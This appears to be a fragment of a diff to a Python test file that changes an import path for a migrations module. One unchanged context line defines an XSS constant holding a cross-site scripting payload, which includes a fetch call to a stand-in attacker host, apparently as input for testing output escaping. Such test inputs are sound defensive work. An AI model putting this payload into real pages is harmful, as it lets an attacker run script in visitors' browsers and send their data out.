@@ -19,7 +19,7 @@ from pathlib import Path
 
 from sqlite_utils import Database
 
-from pipelines.migrations import migrations
+from pipelines.store.migrations import migrations
 
 METADATA = Path(__file__).parents[2] / "metadata.yml"
 XSS = "<script>window.hurt = 1; fetch('https://evil.example/leak')</script><img src=x onerror='window.hurt = 2'>"
